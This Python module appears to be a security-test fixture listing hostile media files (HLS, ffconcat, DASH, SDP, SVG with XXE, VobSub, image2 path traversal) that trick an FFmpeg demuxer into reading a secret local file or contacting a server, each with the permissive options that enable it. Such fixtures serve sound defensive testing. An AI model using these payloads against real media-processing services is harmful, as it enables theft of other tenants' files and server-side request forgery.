"""Files that make a demuxer open others, by kind. Each is shown to work on an FFmpeg that nothing holds back."""

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# What a careless caller might allow: the hosts and files of a playlist.
_EVERYTHING = "file,http,tcp,crypto,data,concat,subfile,rtp,udp,pipe"
_HLS = (
    "-f",
    "hls",
    "-allowed_extensions",
    "ALL",
    "-extension_picky",
    "0",
    "-protocol_whitelist",
    _EVERYTHING,
)


@dataclass(frozen=True)
class Places:
    """What the attack aims at, and the folder in which the hostile file itself lies."""

    folder: Path
    secret: Path
    bare: Path
    """Another one, without an extension."""
    url: str
    udp_port: int


@dataclass(frozen=True)
class Construct:
    """`content` of the hostile file; `careless` options make it work."""

    name: str
    content: Callable[[Places, str], str]
    """From the places and the hostile file's own name."""
    careless: tuple[str, ...]
    works: bool = True
    """False: no build at hand falls for it, even unhindered; it must not begin to work through us."""
    own_name: str | None = None
    """Where the attack is in the name."""


def _playlist(*lines: str) -> str:
    return "\n".join(("#EXTM3U", "#EXT-X-TARGETDURATION:1", *lines, "#EXT-X-ENDLIST", ""))


def _master(child: str) -> str:
    return f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{child}\n"


def _dash(base: str) -> str:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
        ' mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period>'
        '<AdaptationSet mimeType="video/mp4"><Representation id="0" bandwidth="1" codecs="avc1.42c00a">'
        f"<BaseURL>{base}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    )


def _svg(body: str, entity: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{entity}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude">'
        f"{body}</svg>"
    )


INNER = "inner.m3u8"


def inner(at: Places) -> str:
    """What lies beside the hostile file, for those that go on from there."""
    return _playlist("#EXTINF:1,", str(at.secret))


CONSTRUCTS = (
    Construct("hls: a segment by path", lambda at, _: _playlist("#EXTINF:1,", str(at.secret)), _HLS),
    Construct(
        "hls: a segment through the folder above",
        lambda at, _: _playlist("#EXTINF:1,", f"../{at.secret.parent.name}/{at.secret.name}"),
        _HLS,
    ),
    Construct(
        "hls: a segment by file URL", lambda at, _: _playlist("#EXTINF:1,", f"file://{at.secret}"), _HLS
    ),
    Construct(
        "hls: a segment of a segment",
        lambda at, _: _playlist("#EXTINF:1,", f"subfile,,start,0,end,188,,:{at.secret}"),
        _HLS,
        works=False,
    ),
    Construct("hls: a segment by http", lambda at, _: _playlist("#EXTINF:1,", f"{at.url}/s.ts"), _HLS),
    Construct(
        "hls: a key by http",
        lambda at, _: _playlist(
            f'#EXT-X-KEY:METHOD=AES-128,URI="{at.url}/key"', "#EXTINF:1,", str(at.secret)
        ),
        _HLS,
    ),
    Construct(
        "hls: an initial segment by path",
        lambda at, _: _playlist(f'#EXT-X-MAP:URI="{at.secret}"', "#EXTINF:1,", "none.ts"),
        _HLS,
    ),
    Construct("hls: a child by path", lambda at, _: _master(str(at.bare)), _HLS),
    Construct("hls: a child by http", lambda at, _: _master(f"{at.url}/child.m3u8"), _HLS),
    Construct(
        "hls: a child that joins a file to a server's text",
        lambda at, _: _master(f"concat:{at.url}/h.m3u8|file://{at.bare}"),
        _HLS,
    ),
    Construct(
        "ffconcat: a file by path",
        lambda at, _: f"ffconcat version 1.0\nfile '{at.secret}'\n",
        ("-f", "concat", "-safe", "0"),
    ),
    Construct(
        "ffconcat: a file by http",
        lambda at, _: f"ffconcat version 1.0\nfile '{at.url}/x.ts'\n",
        ("-f", "concat", "-safe", "0", "-protocol_whitelist", _EVERYTHING),
    ),
    Construct(
        "ffconcat: a playlist that names a file",
        lambda at, _: f"ffconcat version 1.0\nfile '{INNER}'\n",
        ("-f", "concat", "-safe", "0"),
    ),
    Construct("dash: a file by URL", lambda at, _: _dash(f"file://{at.secret}"), ("-f", "dash")),
    Construct(
        "dash: a server",
        lambda at, _: _dash(f"{at.url}/x.mp4"),
        ("-f", "dash", "-protocol_whitelist", _EVERYTHING),
    ),
    Construct(
        "sdp: a port",
        lambda at, _: (
            "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
            f"m=video {at.udp_port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
        ),
        ("-f", "sdp", "-protocol_whitelist", _EVERYTHING),
        works=False,
    ),
    Construct(
        "svg: a picture by path",
        lambda at, _: _svg(f'<image xlink:href="{at.secret}" width="9" height="9"/>'),
        ("-f", "svg_pipe"),
        works=False,
    ),
    Construct(
        "svg: an inclusion",
        lambda at, _: _svg(f'<xi:include href="{at.secret}" parse="text"/>'),
        ("-f", "svg_pipe"),
        works=False,
    ),
    Construct(
        "svg: an external entity",
        lambda at, _: _svg("<text>&x;</text>", f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{at.secret}">]>'),
        ("-f", "svg_pipe"),
        works=False,
    ),
    Construct(
        "vobsub: the file beside it",
        lambda at, _: (
            "# VobSub index file, v7 (do not modify this line!)\nsize: 720x576\n\nid: en, index: 0\n"
            "timestamp: 00:00:01:000, filepos: 000000000\n"
        ),
        ("-f", "vobsub", "-sub_name", "{secret}"),
    ),
    Construct(
        "image2: a pattern in the name",
        lambda at, _: "",
        ("-f", "image2", "-c:v", "png"),
        own_name="../other-tenant/secret%d.ts",
    ),
)
